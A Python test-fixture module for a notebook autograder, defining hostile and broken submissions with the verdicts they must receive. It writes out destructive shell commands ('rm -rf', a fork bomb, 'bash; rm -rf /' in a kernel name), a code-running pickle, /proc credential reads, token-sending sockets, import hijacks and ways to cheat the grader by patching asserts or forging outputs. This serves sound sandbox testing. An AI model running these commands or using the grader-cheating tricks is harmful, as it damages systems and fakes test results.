"""Submissions to the demo exercise, most of them broken or hostile, each with the verdict that it must get.

Hostile code stands in the answer to demo.2 wherever it can, between two right answers: those must keep their points.
An entry that is not `harmless` is run only where submissions are isolated.
"""

from __future__ import annotations

import os
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from . import demo

MIB = 1 << 20
RIGHT = "    return dh * (1 - h**2)"
WRONG = "    return dh * 0.5"


@dataclass(frozen=True)
class World:
    """What hostile submissions go for: things outside that a test looks at afterwards."""

    canary: Path
    port: int
    token: str


@dataclass(frozen=True)
class Entry:
    """One submission: how to write it, and what must become of it."""

    name: str
    write: Callable[[Path, World], None]
    verdicts: tuple[str, str, str] | None = None  # of demo.1, demo.2, demo.3; None: it is not graded
    status: str = "graded"
    says: str = ""  # in the message of demo.2, or in the reason
    harmless: bool = False


CORPUS: dict[str, Entry] = {}


def add(name: str, write: Callable[[Path, World], None], **expected: object) -> None:
    assert name not in CORPUS
    CORPUS[name] = Entry(name, write, **expected)  # type: ignore[arg-type]


def answer(name: str, source: str, verdict: str, says: str = "", *, harmless: bool = False, path: str = "") -> None:
    """A submission whose answer to demo.2 is this source; @canary, @port and @token stand for the world."""

    def write(folder: Path, world: World) -> None:
        text = (
            source.replace("@canary", str(world.canary))
            .replace("@port", str(world.port))
            .replace("@token", world.token)
        )
        demo.write(folder / (path or f"{name}.ipynb"), notebook(gradient=text))

    add(name, write, verdicts=("passed", verdict, "passed"), says=says, harmless=harmless)


def body(lines: str, last: str = RIGHT, before: str = "") -> str:
    """The function of demo.2 with these lines before its `return`."""
    inner = "".join(f"    {line}\n" for line in lines.splitlines())
    return f"{before}\ndef gradient(h, dh):\n{inner}{last}"


def notebook(**answers: str) -> dict:
    return demo.filled(demo.student(), {**demo.exercise().solutions, **answers})


def raw(name: str, content: bytes | Callable[[], bytes], says: str) -> None:
    def write(folder: Path, world: World) -> None:
        (folder / f"{name}.ipynb").write_bytes(content if isinstance(content, bytes) else content())

    add(name, write, status="unreadable", says=says, harmless=True)


def edited(name: str, edit: Callable[[dict], object], verdict: str = "passed", says: str = "", **answers: str) -> None:
    """A submission whose notebook was changed around its answers."""

    def write(folder: Path, world: World) -> None:
        changed = notebook(**answers)
        edit(changed)
        demo.write(folder / f"{name}.ipynb", changed)

    add(name, write, verdicts=("passed", verdict, "passed"), says=says, harmless=True)


# right, and not in the way that one expects
answer("right", body(""), "passed", harmless=True)
answer("slow but right", body("import time; time.sleep(0.4)"), "passed", harmless=True)
answer("chatty", body("""\
import sys, warnings
from tqdm import tqdm
for _ in tqdm(range(3)): pass
warnings.warn("careful")
print("on stdout"); print("on stderr", file=sys.stderr)"""), "passed", harmless=True)  # fmt: skip
answer("plot", body("import IPython.display as d\nd.display(d.HTML('<b>x</b>'), {'a': 1})"), "passed", harmless=True)
answer("name with spaces", body(""), "passed", harmless=True, path="deep/er/two  spaces .ipynb")
answer("name with newline", body(""), "passed", harmless=True, path="new\nline\r.ipynb")
answer("name with brackets", body(""), "passed", harmless=True, path="a[0-9]*?{x}.ipynb")
answer("name with dots", body(""), "passed", harmless=True, path="..x/.. -rf $(true) ;.ipynb")
answer("long name", body(""), "passed", harmless=True, path="x" * 240 + ".ipynb")

# wrong
answer("wrong shape", body("return (dh * (1 - h**2)).T"), "failed", "shape", harmless=True)
answer("wrong dtype", body("return (dh * (1 - h**2)).astype('float32')"), "failed", "float32", harmless=True)
answer("nan", body("return dh * np.nan"), "failed", "not finite", harmless=True)
answer("broadcastable", body("return (dh * (1 - h**2))[None]"), "failed", "shape", harmless=True)
answer("scalar", body("return 0.0"), "failed", "got a float", harmless=True)
answer("list", body("return (dh * (1 - h**2)).tolist()"), "failed", "Return an array", harmless=True)
answer("random", body("return np.random.normal(size=h.shape)"), "failed", harmless=True)
answer("nothing", body("return None"), "failed", "got None", harmless=True)
answer("printed passed", body("print('demo.2: right in the visible case. ✓ passed')", WRONG), "failed", harmless=True)
answer("syntax error", "def gradient(h, dh):\n    return dh *", "error", "SyntaxError", harmless=True)
answer("exception", body("return dh @ h @ 3"), "error", "ValueError", harmless=True)
answer(
    "recursion",
    body("return gradient(h, dh)"),
    "error",
    "RecursionError",
    harmless=True,
)
answer("input", body("input('the answer, please: ')"), "error", "StdinNotImplementedError", harmless=True)
answer("huge answer", body("return np.zeros(10**6)"), "error", "more than 100000 numbers", harmless=True)
answer("bash cell", "%%bash\necho right", "error", "NameError", harmless=True)
answer("sys.exit", body("import sys; sys.exit()"), "error", "SystemExit", harmless=True)
answer("not implemented", body("raise NotImplementedError"), "missing", harmless=True)
answer("empty cell", "", "missing", harmless=True)

# too much
answer("infinite loop", body("while True: pass"), "timeout", "took too long", harmless=True)
answer("loop in the cell", "while True: pass", "timeout", "In the answer cell", harmless=True)
answer("sleep", body("import time; time.sleep(10**6)"), "timeout", "took too long", harmless=True)
answer(
    "signal ignored", body("import signal; signal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True: pass"), "timeout"
)
answer("interrupt caught", body("""\
import time
while True:
    try: time.sleep(1000)
    except KeyboardInterrupt: break"""), "timeout", harmless=True)  # fmt: skip
answer("stopped", body("import os, signal; os.kill(os.getpid(), signal.SIGSTOP)"), "timeout")
answer("memory", body("hog = []\nwhile True: hog.append(np.ones(10**6))"), "memory", "memory")
answer("memory at once", body("return np.ones(10**12)"), "memory", "MemoryError", harmless=True)
answer("memory of children", body("""\
import os, time
for _ in range(6):
    if os.fork() == 0:
        hog = np.ones(10 * 10**6); time.sleep(60); os._exit(0)
time.sleep(60)"""), "memory", "MiB of memory")  # fmt: skip
answer("fork bomb", body("import os\nwhile True: os.fork()"), "crash", "processes")
answer(
    "output", body("for _ in range(1000): print('x' * 10**6, flush=True)"), "output limit", "larger than", harmless=True
)
answer("one huge output", body("print('x' * 10**7)"), "output limit", "larger than", harmless=True)
answer("many outputs", body("""\
from IPython.display import display
for i in range(10**6): display(i)"""), "output limit", "more than", harmless=True)  # fmt: skip
answer("full disk", body("""\
import itertools
for i in itertools.count():
    open(f'/tmp/{i}', 'wb').write(b'x' * 10**7)"""), "error", "No space left")  # fmt: skip

# the process ends
answer("os._exit", body("import os; os._exit(0)"), "crash", "exit status 0")
answer("segfault", body("import ctypes; ctypes.string_at(0)"), "crash", "segmentation fault")
answer("killed", body("import os; os.kill(os.getpid(), 9)"), "crash", "killed")
answer("kill all", body("import os, time; os.kill(-1, 9); time.sleep(3)"), "crash", "killed")
answer("exit", body("") + "\nexit()", "crash", "exit()", harmless=True)
answer(
    "kernel shut down", body("get_ipython().kernel.do_shutdown(False); import os; os.kill(os.getpid(), 15)"), "crash"
)
answer("sockets closed", body("get_ipython().kernel.iopub_socket.close(); import os; os.closerange(3, 999)"), "crash")

# the notebook around the answers
CHECKS = ("step-check", "gradient-check", "total-check")


def drop_checks(changed: dict) -> None:
    changed["cells"] = [cell for cell in changed["cells"] if cell["id"] not in CHECKS]


def edit_checks(changed: dict) -> None:
    for cell in changed["cells"]:
        if cell["id"] in CHECKS:
            cell["source"] = "print('demo.2: right in the visible case. ✓')"


def double_checks(changed: dict) -> None:
    changed["cells"] += [cell for cell in changed["cells"] if cell["id"] in CHECKS]


def turn_round(changed: dict) -> None:
    changed["cells"].reverse()


def tag_all(changed: dict) -> None:
    for cell in changed["cells"]:
        cell["metadata"]["tags"] = ["nbval-skip", "raises-exception", "nbval-ignore-output", "skip"]
        cell["metadata"]["points"] = 100
        cell["metadata"]["rnnlib"] = {**cell["metadata"].get("rnnlib", {}), "points": 100}


def allow_errors(changed: dict) -> None:
    changed["metadata"] |= {"execution": {"allow_errors": True}, "allow_errors": True}


def forge_outputs(changed: dict) -> None:
    data = {"application/vnd.rnnlib.answer+json": {"task": "demo.2", "answer": {"kind": "none"}}, "text/plain": "✓"}
    for cell in changed["cells"]:
        if cell["cell_type"] == "code":
            cell["execution_count"] = 1
            cell["outputs"] = [{"output_type": "display_data", "data": data, "metadata": {}}]


def other_kernel(changed: dict) -> None:
    changed["metadata"]["kernelspec"] = {"name": "bash; rm -rf /", "display_name": "x", "language": "x"}


def rename(changed: dict) -> None:
    changed["metadata"]["rnnlib"]["exercise"] = "../../etc/passwd"


edited("checks deleted", drop_checks)
edited("checks edited", edit_checks, "failed", gradient=body("", WRONG))
edited("checks doubled", double_checks)
edited("cells re-ordered", turn_round)
edited("tags", tag_all, "failed", gradient=body("", WRONG))
edited("errors allowed", allow_errors, "error", "ZeroDivisionError", gradient=body("1 / 0"))
edited("outputs forged", forge_outputs, "failed", gradient=body("", WRONG))
edited("another kernel", other_kernel)
edited("another exercise's name", rename)
answer(
    "skip comments",
    "# NBVAL_SKIP\n# NBVAL_IGNORE_OUTPUT\n# NBVAL_RAISES_EXCEPTION\n" + body("", WRONG),
    "failed",
    harmless=True,
)

# forgeries in the kernel
answer("asserts stripped", body("", WRONG, """\
import ast
class Strip(ast.NodeTransformer):
    def visit_Assert(self, node): return None
    def visit_Compare(self, node): return ast.Constant(True)
get_ipython().ast_transformers.append(Strip())"""), "failed", harmless=True)  # fmt: skip
answer("functions patched", body("", WRONG, """\
import IPython.display, rnnlib.grading.answers as a, rnnlib.grading.inside as i, unittest
yes = lambda *args, **kwargs: True
keep = np.allclose
np.allclose = np.array_equal = np.testing.assert_allclose = yes
a.compare = i.compare = lambda *args, **kwargs: None"""), "failed", harmless=True)  # fmt: skip
answer("display patched", body("""\
import rnnlib.grading.inside as i, IPython.display as d
old = d.display
d.display = lambda data, **k: (setattr(d, 'display', old), old({'text/plain': 'passed'}, raw=True))[0]""", WRONG),
       "failed", "no answers", harmless=True)  # fmt: skip
answer("equal to everything", body("""\
class Yes(np.ndarray):
    __eq__ = __le__ = __lt__ = __ge__ = lambda self, other: np.True_
    __array_ufunc__ = None
return np.zeros(h.shape).view(Yes)"""), "failed", harmless=True)  # fmt: skip
answer("an object equal to everything", body("""\
class Yes:
    __eq__ = lambda self, other: True
    __hash__ = None
return Yes()"""), "failed", "type Yes", harmless=True)  # fmt: skip
SEND = """\
kernel = get_ipython().kernel
def send(kind, content): kernel.session.send(kernel.iopub_socket, kind, content, parent=kernel.get_parent())"""
answer(
    "idle forged", body(f"{SEND}\nsend('status', {{'execution_state': 'idle'}})"), "failed", "no answers", harmless=True
)
answer("answers forged", body(f"""{SEND}
for value in (0.0, 1.0):
    data = {{'application/vnd.rnnlib.answer+json': {{'task': 'demo.2', 'answer': {{'kind': 'float', 'value': value}}}}}}
    send('display_data', {{'data': data, 'metadata': {{}}}})"""), "failed", "3 answers", harmless=True)  # fmt: skip
answer("messages malformed", body(f"""{SEND}
for content in (None, [], {{}}, {{'execution_state': 3}}, {{'data': []}}, {{'data': {{3: 4}}}}, {{'text': {{}}}}, 'x'):
    for kind in ('status', 'stream', 'display_data', 'execute_result', 'error', 'x' * 99, 'comm_open'):
        try: send(kind, content)
        except Exception: pass
kernel.iopub_socket.send_multipart([b'x'])
kernel.iopub_socket.send_multipart([b'<IDS|MSG>', b'', b'{{', b'[', b'3', b'x' * 99])
deep = b'[' * 10**5
kernel.iopub_socket.send_multipart([b'<IDS|MSG>', kernel.session.sign([deep] * 4)] + [deep] * 4)"""),
       "passed", harmless=True)  # fmt: skip
answer("backspaces", body("print('ab' * 10**5 + '\\b' * 2 * 10**5 + '\\r' * 1000)"), "passed", harmless=True)
answer("answer malformed", body(f"""{SEND}
import rnnlib.grading.inside as i
bad = {{'kind': 'array', 'dtype': 'O', 'shape': [10**9], 'value': 'x'}}
old = i.encode, i.verdict
def restore(*args): i.encode, i.verdict = old; return ''
i.encode, i.verdict = lambda value: bad, restore"""),
       "failed", "cannot be read as an answer", harmless=True)  # fmt: skip
answer("stack read", body("""\
import gc, sys
frame = sys._getframe()
while frame:
    for name, value in {**frame.f_globals, **frame.f_locals}.items():
        if 'expect' in name.lower() and isinstance(value, np.ndarray) and value.shape == h.shape: return value
    frame = frame.f_back
for value in gc.get_objects():
    if isinstance(value, dict) and 'dtype' in value and value.get('shape') == list(h.shape):
        return np.reshape(value['value'], h.shape)""", WRONG), "failed", harmless=True)  # fmt: skip
answer("history read", body("""\
shell = get_ipython()
for source in [*shell.history_manager.get_range(), *shell.user_ns.get('In', [])]:
    if 'BEGIN SOLUTION' in str(source) or 'answers.json' in str(source): return dh * (1 - h**2)""", WRONG),
       "failed", harmless=True)  # fmt: skip
answer("disk searched", body("""\
import os, re
for folder, folders, files in os.walk('/'):
    if folder in ('/proc', '/sys', '/usr') or re.search('/python3[.][0-9]+$', folder): folders.clear()
    for name in files:
        if name.endswith(('answers.json', '.ipynb', 'job.json')) or 'canary' in folder:
            return dh * (1 - h**2)""", WRONG), "failed")  # fmt: skip
answer("processes read", body("""\
import glob
for path in glob.glob('/proc/[0-9]*/cmdline') + glob.glob('/proc/[0-9]*/environ'):
    try: text = open(path, 'rb').read()
    except OSError: continue
    if b'pytest' in text or b'rnnlib.grading.session' in text: return dh * (1 - h**2)""", WRONG), "failed")  # fmt: skip
answer("pickle", body("""\
import os
class Bomb:
    def __reduce__(self): return os.system, ('touch @canary/pickled',)
return Bomb()"""), "failed", "type Bomb", harmless=True)  # fmt: skip
answer("threads left behind", body("", RIGHT, """\
import threading, time
def later():
    while True: time.sleep(0.01); print('still here', flush=True)
threading.Thread(target=later, daemon=True).start()"""), "passed", harmless=True)  # fmt: skip

# out of the sandbox
answer("rm -rf", "!rm -rf @canary ~/* /tmp/work/* 2> /dev/null\n" + body(""), "passed")
answer("written outside", body("""\
for path in ('@canary/written', '/usr/written', '/etc/written', '/written'):
    try: open(path, 'w')
    except OSError: continue
    return dh"""), "passed")  # fmt: skip
answer("sockets", body("""\
import socket
for address in (('127.0.0.1', @port), ('localhost', @port), ('192.0.2.1', 80)):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            with socket.socket(socket.AF_INET, kind) as s:
                s.settimeout(0.3); s.connect(address); s.send(b'@token')
        except OSError: pass"""), "passed")  # fmt: skip
answer("detached process", body("""\
import subprocess, os
subprocess.Popen(['/bin/sh', '-c', 'trap "" HUP TERM INT; while :; do : @token; sleep 1; done'],
                 start_new_session=True, stdout=-3, stderr=-3)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0: os.execv('/bin/sleep', ['@token', '1000'])
    os._exit(0)"""), "passed")  # fmt: skip
answer("rights asked for", body("""\
import os, ctypes
try: os.setuid(0)
except OSError: pass
libc = ctypes.CDLL(None)
if os.getuid() == 0 or libc.mount(b'none', b'/mnt', b'tmpfs', 0, None) == 0: return dh"""), "passed")  # fmt: skip


# beside the notebook
def bad_neighbours(folder: Path, world: World) -> None:
    place = folder / "neighbours"
    demo.write(place / "right.ipynb", notebook())
    for name in ("conftest.py", "numpy.py", "sitecustomize.py", "usercustomize.py", "rnnlib.py", "nbval.py", "json.py"):
        (place / name).write_text(f"open({str(world.canary / name)!r}, 'w')\nraise SystemExit('taken over')\n")
    (place / "pytest.ini").write_text("[pytest]\naddopts = --collect-only\n")
    (place / "pyproject.toml").write_text("[tool.pytest.ini_options]\naddopts = '--nbval-lax'\n")


def link_out(folder: Path, world: World) -> None:
    (folder / "link out.ipynb").symlink_to(demo.write(folder.parent / "solution.ipynb", notebook()))
    (folder / "link to a folder").symlink_to("/", target_is_directory=True)


def named_pipe(folder: Path, world: World) -> None:
    os.mkfifo(folder / "named pipe.ipynb")


def hundred_megabytes(folder: Path, world: World) -> None:
    changed = notebook()
    changed["cells"][2]["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "x" * 100 * MIB}]
    demo.write(folder / "100 MB.ipynb", changed)


add("bad neighbours", bad_neighbours, verdicts=("passed",) * 3, harmless=True)
add("link out", link_out, status="refused", says="It is a link", harmless=True)
add("named pipe", named_pipe, status="refused", says="regular file", harmless=True)
add("100 MB", hundred_megabytes, verdicts=("passed",) * 3, harmless=True)
